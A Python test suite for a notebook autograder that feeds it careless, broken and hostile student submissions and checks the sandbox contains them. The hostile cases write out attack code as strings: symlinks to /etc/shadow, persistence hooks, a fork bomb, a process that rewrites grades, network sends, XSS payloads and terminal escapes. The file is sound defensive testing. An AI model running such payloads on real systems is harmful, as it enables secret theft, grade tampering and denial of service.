"""Careless, broken and hostile submissions, graded through `make grade`'s code path (tools.grading.run.grade).

Lessons 01 and 02 each have one class: honest students whose ids sort first and last (graded before and
after everyone else), a blank copy graded after the attackers, and one submission per entry of BAD, beside
the round trip's students (tests/graded_class.py). Each class is graded once, with the sandbox on. Every attack payload is harmless
if it got through (a comment, a print, a marker file): the tests detect that it got through instead.
"""

import html
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import psutil
import pytest

from tests.grading import graded_class
from tests.grading.graded_class import TIMEOUT
from tests.grading.submissions import (
    ROOT,
    cells_by_id,
    points,
    sandbox_available,
    solved,
    source_notebook,
    submit,
)
from tools.grading import results, schedule

pytestmark = pytest.mark.slow

L1, L2 = "01_single_neuron", "02_dense_layer"
MARKER = "nng-hostile-7f3a"  # found in the command line of any process a submission left behind
FULL1 = points(L1)

# (student, lesson): (what it does, how it is built, the score it deserves, what it could touch without the sandbox)
BAD = {}


ESCAPES = (
    "x\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e"  # erase line, clipboard write, right-to-left override
)


class Handed:
    """What a student hands in besides a plain notebook: a link in its place, or files beside it
    ({name: the path a link of that name points to})."""

    def __init__(self, nb=None, link=None, beside=()):
        self.nb, self.link, self.beside = nb, link, dict(beside)


def bad(student, lesson, deserved, does, touches="its own score"):
    def register(build):
        BAD[(student, lesson)] = (does, build, deserved, touches)
        return build

    return register


def code(source):
    return nbformat.v4.new_code_cell(source)


def after(nb, grade_id, *cells):
    """Insert cells right after the cell with `grade_id`."""
    index = nb.cells.index(cells_by_id(nb)[grade_id]) + 1
    nb.cells[index:index] = list(cells)
    return nb


def first_answer(nb):
    return next(
        gid for gid, cell in cells_by_id(nb).items() if cell.metadata["nbgrader"].get("solution")
    )


# ---- careless ------------------------------------------------------------------------------------------
@bad("duplicate_grade_id", L1, FULL1, "copy-pasted answer cell: two cells with grade_id 'relu'")
def _(release, source):
    nb = solved(release, source)
    copy = nbformat.from_dict(cells_by_id(nb)["relu"])
    copy.id = "copied1"
    copy.source += "\nprint(relu(-1.0))"
    return after(nb, "relu", copy)


@bad(
    "lost_metadata",
    L1,
    FULL1,
    "every cell's nbgrader metadata lost (another editor), cell ids kept",
)
def _(release, source):
    nb = solved(release, source)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


@bad(
    "slow_legit",
    L1,
    FULL1,
    "a 2 s cell, then a cell stuck past the timeout in code that cannot be interrupted",
)
def _(release, source):
    return after(
        solved(release, source),
        "check_sigmoid",
        code("import time\ntime.sleep(2)"),
        code(
            "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\n"
            f"time.sleep({3 * TIMEOUT})\nsignal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])"
        ),
    )


@bad("duplicate_grade_id", L2, points(L2), "copy-pasted answer cell in lesson 02")
def _(release, source):
    nb = solved(release, source)
    gid = first_answer(nb)
    copy = nbformat.from_dict(cells_by_id(nb)[gid])
    copy.id = "copied2"
    return after(nb, gid, copy)


@bad("chdir_first", L1, FULL1, "changes directory in a cell above the one that imports nnhelpers")
def _(release, source):
    nb = solved(release, source)
    nb.cells.insert(0, code("import os\nos.makedirs('work', exist_ok=True)\nos.chdir('work')"))
    return nb


@bad(
    "test_copied_above",
    L1,
    FULL1,
    "a copy of relu's test cell (metadata and all) pasted above the answer",
)
def _(release, source):
    nb = solved(release, source)
    copy = nbformat.from_dict(cells_by_id(nb)["check_relu"])
    copy.id = "pasted1"
    nb.cells.insert(nb.cells.index(cells_by_id(nb)["relu"]), copy)
    return nb


@bad(
    "secret_link",
    L1,
    FULL1,
    "honest, but its submission_secret.txt is a link to /etc/shadow",
    "/etc/shadow, copied by the root grader into autograded/ and feedback/",
)
def _(release, source):
    return Handed(solved(release, source), beside={"submission_secret.txt": "/etc/shadow"})


@bad(
    "escape_names",
    L1,
    FULL1,
    "honest, with a cell whose id and grade id hold terminal escape sequences",
    "the instructor's terminal and spreadsheet (erase line, clipboard write)",
)
def _(release, source):
    nb = json.loads(nbformat.writes(solved(release, source)))
    nb["cells"].append(
        {
            "cell_type": "code",
            "id": ESCAPES,
            "metadata": {"nbgrader": {"grade_id": ESCAPES}},
            "source": "print('hi')",
            "outputs": [],
            "execution_count": None,
        }
    )
    return json.dumps(nb).encode()


# ---- broken --------------------------------------------------------------------------------------------
@bad("not_json", L1, 0, "the file is not JSON (a truncated download)")
def _(release, source):
    return nbformat.writes(solved(release, source)).encode()[:5000]


@bad("nbformat_99", L1, 0, "notebook format version 99")
def _(release, source):
    nb = json.loads(nbformat.writes(solved(release, source)))
    nb["nbformat"] = 99
    return json.dumps(nb).encode()


@bad("schema_99", L1, FULL1, "nbgrader metadata with schema_version 99 on every graded cell")
def _(release, source):
    nb = solved(release, source)
    for cell in cells_by_id(nb).values():
        cell.metadata.nbgrader["schema_version"] = 99
    return nb


@bad("points_lots", L1, FULL1, 'points: "lots" on every test cell')
def _(release, source):
    nb = solved(release, source)
    for cell in cells_by_id(nb).values():
        if cell.metadata.nbgrader.get("grade"):
            cell.metadata.nbgrader["points"] = "lots"
    return nb


@bad(
    "grade_false",
    L1,
    FULL1 - points(L1, ["check_relu"]),
    "wrong relu, and its test cell set to grade: false",
)
def _(release, source):
    nb = solved(release, source)
    cells_by_id(nb)["relu"].source = "def relu(z):\n    return np.abs(z)\n"
    cells_by_id(nb)["check_relu"].metadata.nbgrader["grade"] = False
    return nb


@bad(
    "exit_call",
    L1,
    FULL1,
    "exit() in a cell between the exercises",
    "the grading kernel (it exits)",
)
def _(release, source):
    return after(solved(release, source), "check_relu", code("exit()"))


@bad(
    "os_exit",
    L1,
    FULL1,
    "os._exit(0) in a cell between the exercises",
    "the grading kernel (it dies)",
)
def _(release, source):
    return after(solved(release, source), "check_sigmoid", code("import os\nos._exit(0)"))


@bad(
    "os_exit",
    L2,
    points(L2),
    "os._exit(0) after the first exercise of lesson 02",
    "the grading kernel",
)
def _(release, source):
    nb = solved(release, source)
    first_test = next(
        gid for gid, c in cells_by_id(nb).items() if c.metadata["nbgrader"].get("grade")
    )
    return after(nb, first_test, code("import os\nos._exit(0)"))


@bad(
    "kill_parent",
    L1,
    FULL1,
    "kills its parent and its process group",
    "nbgrader's process: the whole run stopped for everyone",
)
def _(release, source):
    return after(
        solved(release, source),
        "check_relu",
        code(
            "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
            "os.killpg(0, signal.SIGKILL)"
        ),
    )


@bad(
    "sigint_loop",
    L1,
    FULL1 - points(L1, ["check_relu"]),
    "relu's cell ignores SIGINT and loops for ever",
    "the run: 'Timeout waiting for IOPub output' stopped it for everyone",
)
def _(release, source):
    nb = solved(release, source)
    cells_by_id(nb)[
        "relu"
    ].source += (
        "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
    )
    return nb


# ---- hostile -------------------------------------------------------------------------------------------
def payload(nb, source, where="first"):
    """Put an attack cell at the start of the exercises (or at the end)."""
    if where == "end":
        nb.cells.append(code(source))
        return nb
    return after(nb, first_answer(nb), code(source))


SOLVE_FROM = (  # copies the instructor's answers into this kernel if it finds the instructor notebook
    "def solve_from(path):\n    import json\n    nb = json.load(open(path))\n"
    "    for cell in nb['cells']:\n        src = ''.join(cell['source'])\n"
    "        if 'BEGIN SOLUTION' in src:\n            exec(src, globals())\n"
)


@bad(
    "link_to_instructor",
    L1,
    0,
    "the notebook handed in is a link to the instructor's notebook",
    "the solutions (11/11 and the solutions on its feedback page)",
)
def _(release, source):
    return Handed(link=ROOT / "notebooks" / f"{L1}.ipynb")


@bad(
    "link_to_classmate",
    L1,
    0,
    "the notebook handed in is a link to a classmate's submission",
    "a classmate's answers and score",
)
def _(release, source):
    return Handed(link=Path("..") / ".." / "000_honest" / L1 / f"{L1}.ipynb")


@bad(
    "huge_numbers",
    L1,
    FULL1 - points(L1, ["check_relu"]),
    "relu returns 1e300 everywhere; a last cell rewrites every recorded answer as 10**400",
    "the judge (OverflowError stopped grading for the whole class)",
)
def _(release, source):
    # The judge run's reply is what the judge reads now (the kernel's results file is not read, so the
    # last cell, kept from the results-file design, costs nothing): the huge number comes from relu.
    nb = solved(release, source)
    cells_by_id(nb)["relu"].source += "\n\ndef relu(z):\n    return np.full_like(z, 1e300)\n"
    return payload(
        nb,
        (
            "import json, os\nresults = json.load(open('nnhelpers-answers.json'))\n"
            "results['answers'] = {k: 10**400 for k in results['answers']}\n"
            "json.dump(results, open('nnhelpers-answers.json', 'w'))\n"
        ),
        where="end",
    )


@bad(
    "reads_instructor",
    L1,
    0,
    "reads the instructor notebook (found via nh.__file__ and the venv's path) "
    "and runs its solutions in place of answers",
    "the solutions and hidden tests of every lesson",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        SOLVE_FROM
        + (
            "import glob, sys, nnhelpers as nh\nfrom pathlib import Path\n"
            "found = [str(r / 'notebooks' / '01_single_neuron.ipynb') for r in (Path(nh.__file__).parents[1], Path(sys.prefix).parent)]\n"
            "for folder in Path.cwd().parents:\n    found += glob.glob(str(folder / 'source' / '*' / '01_single_neuron.ipynb'))\n"
            "for p in found:\n    try:\n        solve_from(p)\n        print('read', p)\n    except OSError as e:\n        print(e)\n"
        ),
    )


@bad(
    "reads_gradebook",
    L1,
    0,
    "looks for gradebook.db above its working directory and prints what it holds",
    "hidden tests and every student's answers and scores",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import sqlite3\nfrom pathlib import Path\n"
            "for folder in [Path.cwd(), *Path.cwd().parents]:\n    db = folder / 'gradebook.db'\n    if db.exists():\n"
            "        rows = sqlite3.connect(db).execute('select source from source_cell').fetchall()\n"
            "        print('\\n'.join(r[0] for r in rows))\n"
        ),
    )


@bad(
    "writes_nnhelpers",
    L1,
    0,
    "appends a line to nnhelpers (the imported copy and the editable source tree)",
    "the course code every later student imports (a backdoor)",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import sys, nnhelpers as nh\nfrom pathlib import Path\n"
            "for p in [Path(nh.__file__), Path(sys.prefix).parent / 'nnhelpers' / '__init__.py']:\n"
            f"    try:\n        open(p, 'a').write('\\n# {MARKER}\\n')\n        print('wrote', p)\n"
            "    except OSError as e:\n        print(e)\n"
        ),
    )


@bad(
    "ipython_startup",
    L1,
    0,
    "writes IPython startup files (its profile, ~/.ipython, /root/.ipython)",
    "every later kernel of the instructor's account",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import os\nfrom pathlib import Path\n"
            "dirs = [Path(get_ipython().profile_dir.startup_dir), Path.home() / '.ipython/profile_default/startup',\n"
            "        Path('/root/.ipython/profile_default/startup')]\nfor d in dirs:\n    try:\n"
            "        d.mkdir(parents=True, exist_ok=True)\n"
            f"        (d / '99-{MARKER}.py').write_text('print(\"{MARKER}\")')\n    except OSError as e:\n        print(e)\n"
        ),
    )


@bad(
    "pth_hook",
    L1,
    0,
    "writes a .pth start-up hook into the venv's and the user's site-packages",
    "every later Python process of the venv, nbgrader included",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import site\nfrom pathlib import Path\n"
            "for d in [*site.getsitepackages(), site.getusersitepackages()]:\n    try:\n"
            "        Path(d).mkdir(parents=True, exist_ok=True)\n"
            f"        (Path(d) / '{MARKER}.pth').write_text('import sys\\n')\n    except OSError as e:\n        print(e)\n"
        ),
    )


@bad(
    "overwrites_other",
    L1,
    0,
    "overwrites every other submission, autograded notebook and feedback it finds",
    "other students' work and grades",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import glob\nfrom pathlib import Path\n"
            "for folder in Path.cwd().parents:\n"
            "    for p in glob.glob(str(folder / '*' / '000_honest' / '*' / '*')):\n"
            "        try:\n            Path(p).write_text('{}')\n        except OSError as e:\n            print(e)\n"
        ),
    )


@bad(
    "lingering",
    L1,
    0,
    "starts a detached process that outlives the kernel and keeps rewriting grades.csv",
    "grades.csv after export",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', '''\nimport time\nfrom pathlib import Path\n"
            "for _ in range(240):\n    for folder in Path.cwd().parents:\n"
            "        try:\n            (folder / 'grades.csv').write_text('hacked')\n        except OSError:\n            pass\n"
            f"    time.sleep(0.5)\n''', '{MARKER}'], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        ),
    )


@bad(
    "network",
    L1,
    0,
    "connects to a server on the grading machine's localhost and to the internet",
    "the network: uploads what it read",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import socket\n"
            "for address in [('127.0.0.1', PORT), ('1.1.1.1', 80)]:\n    try:\n"
            "        socket.create_connection(address, timeout=2).sendall(b'leak')\n        print('connected', address)\n"
            "    except OSError as e:\n        print(e)\n"
        ),
    )


@bad(
    "big_alloc",
    L1,
    FULL1,
    "allocates 4 GiB in a cell between the exercises",
    "the machine's memory",
)
def _(release, source):
    return after(
        solved(release, source), "check_sigmoid", code("big = np.ones(2**29)\nprint(big.nbytes)")
    )


@bad(
    "many_files",
    L1,
    FULL1,
    "writes 2,000 empty files and 60 MiB files until its working directory is full, then 20,000 "
    "empty files, at the end",
    "the grading machine's disk and memory (the sandbox's working directory is a tmpfs capped in "
    "bytes and in files)",
)
def _(release, source):
    return payload(
        solved(release, source),
        "import os\n"
        "try:\n"
        "    for number in range(2000):\n        open(f'junk{number}.txt', 'w').close()\n"
        "    for number in range(4):  # 240 MiB: more than the working directory holds\n"
        "        with open(f'big{number}.bin', 'wb') as f:\n"
        "            f.write(bytes(60 * 2**20))\n"
        "finally:\n"
        "    for number in range(4):\n"
        "        if os.path.exists(f'big{number}.bin'):\n            os.remove(f'big{number}.bin')\n"
        "    for number in range(20000):  # more files than it may hold\n"
        "        open(f'empty{number}.txt', 'w').close()",
        where="end",
    )


@bad(
    "fork_bomb",
    L1,
    0,
    "forks up to 1024 processes that each wait 30 s",
    "every process slot of the machine",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        (
            "import os, time\nparent = os.getpid()\n"
            "for _ in range(10):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
            "if os.getpid() != parent:\n    time.sleep(30)\n    os._exit(0)\n"
        ),
    )


# 8 MB, over the 1 MiB limit for one output, print in milliseconds: the cell finishes long before its
# timeout even beside a busy CPU. (A 200 MB line could be interrupted before it printed; the caps on a
# cell's and the notebook's total are checked without a kernel in tests/grading/test_grading_repair.py.)
@bad("huge_output", L1, FULL1, "prints an 8 MB line", "an 8 MB notebook and feedback page")
def _(release, source):
    return after(solved(release, source), "check_sigmoid", code("print('x' * 8_000_000)"))


@bad(
    "script_output",
    L1,
    FULL1,
    "<script>, onerror, javascript: links in outputs, Markdown and raw cells",
    "the instructor's or a student's browser when opening the feedback page",
)
def _(release, source):
    evil = (
        f"<script>alert('{MARKER}')</script><img src=x onerror=\"alert('{MARKER}')\">"
        f"<a href=\"javascript:alert('{MARKER}')\">x</a>"
    )
    nb = after(
        solved(release, source),
        "check_sigmoid",
        code(
            f"from IPython.display import HTML, Javascript, Markdown, display\ndisplay(HTML({evil!r}))\n"
            f"display(Javascript(\"alert('{MARKER}')\"))\ndisplay(Markdown(\"[x](javascript:alert('{MARKER}'))\"))"
        ),
    )
    nb.cells.append(nbformat.v4.new_markdown_cell(evil + f"\n\n[y](javascript:alert('{MARKER}'))"))
    nb.cells.append(nbformat.v4.new_raw_cell(evil))
    return nb


@bad(
    "prints_history",
    L1,
    0,
    "prints the kernel's input history (In) at the end, hidden tests included",
    "the hidden tests, through its feedback page",
)
def _(release, source):
    return payload(nbformat.from_dict(release), "print('\\n'.join(In))", where="end")


# A cheat that fakes scores from inside the kernel: points are decided outside it (tools/grading/scores.py),
# so silenced test cells record nothing and earn nothing. (More such cheats: tests/grading/test_grading.py's CHEATS.)
@bad(
    "input_transformer",
    L1,
    0,
    "an IPython input transformer turns every later cell, tests included, into `pass`",
    "every test cell's verdict",
)
def _(release, source):
    return payload(
        nbformat.from_dict(release),
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    )


HONEST = [("000_honest", L1), ("zzz_honest", L1), ("000_honest", L2), ("zzz_honest", L2)]
BLANK_AFTER = ("zzy_blank", L1)  # graded after the attackers: must still score 0


def lingering(marker=MARKER):
    """Processes whose command line holds the marker."""
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if any(marker in part for part in process.info["cmdline"] or []):
            found.append(process.pid)
    return found


def build_class(root, lesson, release, source, port, only=None):
    """The hostile suite's students of one lesson, handed in under root/submitted/ (only: just these
    attackers, and no honest or blank student)."""
    for student, lesson_ in HONEST if only is None else []:
        if lesson_ == lesson:
            submit(root, student, lesson, solved(release, source))
    for (student, lesson_), (_, build, _, _) in BAD.items():
        if lesson_ == lesson and (only is None or student in only):
            handed = build(release, source)
            handed = handed if isinstance(handed, Handed) else Handed(handed)
            folder = root / "submitted" / student / lesson
            if handed.link:
                folder.mkdir(parents=True)
                (folder / f"{lesson}.ipynb").symlink_to(handed.link)
            else:
                nb = handed.nb
                if not isinstance(nb, bytes):
                    nb = nbformat.writes(nb).replace("PORT", str(port)).encode()
                submit(root, student, lesson, nb)
            for name, target in handed.beside.items():
                (folder / name).symlink_to(target)
    if lesson == BLANK_AFTER[1] and only is None:
        submit(root, BLANK_AFTER[0], lesson, release)


for _lesson in (L1, L2):
    graded_class.register(_lesson, build_class, needs_sandbox=True)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class of lessons 01 and 02 graded once (beside the round trip's students, tests/graded_class.py):
    the course roots, grades.csv and grading-report.csv rows by (student, lesson), and what the class
    summaries hold (connections a server on localhost received, the submissions and the course tree as
    they were before grading)."""
    if not sandbox_available():
        pytest.skip("bubblewrap (bwrap) is not installed: sudo apt-get install bubblewrap")
    summaries = graded_class.graded(tmp_path_factory, [L1, L2])
    roots = {lesson: Path(summary["root"]) for lesson, summary in summaries.items()}
    rows, report = {}, {}
    for root in roots.values():
        rows.update(
            {
                (row["student_id"], row["assignment"]): row
                for row in graded_class.csv_rows(root / "grades.csv")
            }
        )
        report.update(
            {
                (row["student_id"], row["assignment"]): row
                for row in graded_class.csv_rows(root / "grading-report.csv")
            }
        )
    return {"roots": roots, "rows": rows, "report": report, "summaries": summaries}


def page(graded, student, lesson):
    return graded["roots"][lesson] / "feedback" / student / lesson / f"{lesson}.html"


def score(graded, key):
    return float(graded["rows"][key]["score"])


@pytest.mark.parametrize("key", list(BAD), ids=[f"{s}-{lesson[:2]}" for s, lesson in BAD])
def test_bad_submission_gets_the_score_it_deserves(graded, key):
    does, _, deserved, _ = BAD[key]
    assert score(graded, key) == deserved, f"{key}: {does}"
    assert float(graded["rows"][key]["max_score"]) == points(key[1])


def test_there_are_enough_distinct_bad_submissions():
    assert len(BAD) >= 20 and len({lesson for _, lesson in BAD}) >= 2


@pytest.mark.parametrize("key", HONEST + [BLANK_AFTER])
def test_honest_students_keep_full_marks_and_the_blank_copy_scores_zero(graded, key):
    assert score(graded, key) == (0 if key == BLANK_AFTER else points(key[1]))


EVERYONE = set(BAD) | set(HONEST) | {BLANK_AFTER}


def test_everyone_has_a_row_in_grades_csv_and_a_feedback_page(graded):
    assert EVERYONE <= set(graded["rows"])  # (nbgrader lists every student for every lesson)
    for student, lesson in EVERYONE:
        assert page(graded, student, lesson).is_file(), (student, lesson)


def test_each_page_and_row_is_written_as_its_submission_finishes(graded):
    """Pages and rows of grades.csv are written as each submission is graded, not after the whole
    class: the first page of the class is written before the last submission's autograding ends, and
    its row, streamed then, holds the score of the final export. slow_legit, whose stuck cell costs it
    twice the cell timeout, has more code cells than an honest copy, so it starts before them
    (schedule.longest_first)."""
    root = graded["roots"][L1]
    students = sorted(p.name for p in (root / "submitted").iterdir())
    pages = {s: page(graded, s, L1).stat().st_mtime for s in students}
    autograded = {
        s: (root / "autograded" / s / L1 / f"{L1}.ipynb").stat().st_mtime
        for s in students
        if (root / "autograded" / s / L1 / f"{L1}.ipynb").exists()
    }
    first = min(pages, key=pages.get)
    assert pages[first] < max(autograded.values()), "every page was written at the end"
    row = root / "grading" / L1 / first / "control" / "grades.csv"
    assert row.stat().st_mtime < max(autograded.values())
    (streamed,) = graded_class.csv_rows(row)
    assert float(streamed["score"]) == score(graded, (first, L1))
    honest = root / "grading" / L1 / "000_honest" / "control" / "grades.csv"
    (streamed,) = graded_class.csv_rows(honest)  # the honest student's own streamed row: full marks
    assert float(streamed["score"]) == score(graded, ("000_honest", L1)) == points(L1)
    order = schedule.longest_first(root, [(L1, s) for s in students])
    assert order.index((L1, "slow_legit")) < order.index((L1, "000_honest"))


def hidden_lines(lesson):
    lines = []
    for cell in source_notebook(lesson).cells:
        for block in re.findall(
            r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, flags=re.DOTALL
        ):
            lines += [line.strip() for line in block.splitlines() if len(line.strip()) >= 8]
    return lines


def page_text(path):
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))


def test_no_hidden_test_line_appears_in_any_feedback(graded):
    pages = [page(graded, student, lesson) for student, lesson in EVERYONE]
    assert len(pages) == len(BAD) + len(HONEST) + 1
    for path in pages:
        lesson = path.stem
        text = page_text(path)
        leaked = [line for line in hidden_lines(lesson) if line in text]
        assert not leaked, f"{path}: {leaked}"
    # The history a student printed (only there do the markers show: the page drops them from the
    # cells' sources) holds the quiz's test cell as the kernel ran it: its hidden block empty, since
    # release.stage strips the key lines before grading.
    history = page_text(page(graded, "prints_history", L1))
    assert "### BEGIN HIDDEN TESTS\n### END HIDDEN TESTS" in history


class ActiveContent(HTMLParser):
    """Collects scripts and the attributes of a page that a browser would run."""

    def __init__(self):
        super().__init__()
        self.scripts, self.handlers, self.urls, self.in_script = [], [], [], False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name, value))
            if name in ("href", "src") and (value or "").strip().lower().startswith(
                ("javascript:", "vbscript:")
            ):
                self.urls.append((tag, value))

    def handle_data(self, data):
        if self.in_script:
            self.scripts.append(data)


def test_feedback_has_no_script_handler_or_javascript_link_from_the_student(graded):
    text = page(graded, "script_output", L1).read_text()
    assert MARKER in text  # the student's text is there, made harmless
    found = ActiveContent()
    found.feed(text)
    assert not found.scripts  # none at all: no MathJax from a CDN either
    assert not found.handlers and not found.urls


def test_outputs_are_capped_in_bytes(graded):
    root = graded["roots"][L1]
    for path in (
        root / "autograded" / "huge_output" / L1 / f"{L1}.ipynb",
        page(graded, "huge_output", L1),
    ):
        assert path.stat().st_size < 5 * 2**20, path
    assert "output cut by the grader" in page_text(page(graded, "huge_output", L1))


def test_report_names_what_could_not_be_graded_fully(graded):
    report = graded["report"]
    assert (
        report[("not_json", L1)]["outcome"].startswith("not graded")
        and "not valid JSON" in report[("not_json", L1)]["details"]
    )
    assert "format version 99" in report[("nbformat_99", L1)]["details"]
    assert report[("sigint_loop", L1)]["outcome"] == "partly graded"
    assert "restarted" in report[("sigint_loop", L1)]["details"]
    assert "restarted" in report[("os_exit", L1)]["details"]
    assert report[("schema_99", L1)]["outcome"] == "graded after repair"
    assert (
        "dropped nbgrader metadata (a copy of cell 'relu')"
        in report[("duplicate_grade_id", L1)]["details"]
    )
    # the working directory is a tmpfs of the sandbox: full at 128 MiB, and gone after grading
    assert "filled its working directory" in report[("many_files", L1)]["details"]
    home = graded["roots"][L1] / "grading" / L1 / "many_files" / "home"
    assert home.is_dir() and not any(home.iterdir())
    assert not {key for key in HONEST if key in report}
    for student in ("link_to_instructor", "link_to_classmate"):
        assert report[(student, L1)]["outcome"].startswith("not graded")
        assert "the notebook is a symbolic link" in report[(student, L1)]["details"]
    assert "submission_secret.txt is a symbolic link" in report[("secret_link", L1)]["details"]


CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_reports_are_plain_text(graded):
    root = graded["roots"][L1]
    assert "escape_names" in (root / "grades.csv").read_text()
    for name in ("grades.csv", "grading-report.csv", "trusted-scores.csv"):
        assert not CONTROL.search((root / name).read_text()), name
    assert "52;c;ZXZpbA==" in graded["report"][("escape_names", L1)]["details"]  # named, made plain


def test_no_file_outside_a_submission_reaches_autograded_or_feedback(graded):
    shadow = Path("/etc/shadow").read_bytes() if os.access("/etc/shadow", os.R_OK) else None
    for root in graded["roots"].values():
        for path in [*(root / "autograded").rglob("*"), *(root / "feedback").rglob("*")]:
            assert not path.is_symlink(), path
            if path.is_file() and shadow:
                assert shadow not in path.read_bytes(), path
    assert not (
        graded["roots"][L1] / "autograded" / "secret_link" / L1 / "submission_secret.txt"
    ).exists()


def test_a_number_the_judge_cannot_use_costs_its_cell_and_is_named(graded):
    rows = [
        row
        for row in graded_class.csv_rows(graded["roots"][L1] / "trusted-scores.csv")
        if row["student"] == "huge_numbers"
    ]
    relu = [row for row in rows if row["grade_id"] == "check_relu"]
    assert (
        relu
        and float(relu[0]["points"]) == 0
        and f"larger than {results.MAX_NUMBER:g}" in relu[0]["reason"]
    )
    assert all(float(row["points"]) == float(row["max_points"]) for row in rows if row not in relu)


def test_nothing_reached_the_course_other_students_or_the_network(graded):
    for lesson, root in graded["roots"].items():
        summary = graded["summaries"][lesson]
        assert graded_class.course_digest() == summary["course_before"]
        assert graded_class.file_digests(root / "submitted") == summary["submitted_before"]
        assert (root / "grades.csv").read_bytes() == (root / "grades-at-export.csv").read_bytes()
        assert not summary["received"], "a submission connected to the grading machine's localhost"
    assert not lingering(), "a process a submission started outlived grading"
    planted = [
        p
        for p in [
            Path("/root/.ipython/profile_default/startup") / f"99-{MARKER}.py",
            Path.home() / ".ipython" / "profile_default" / "startup" / f"99-{MARKER}.py",
        ]
        if p.exists()
    ]
    planted += [p for p in ROOT.glob(f".venv/lib/*/site-packages/{MARKER}.pth")]
    assert not planted
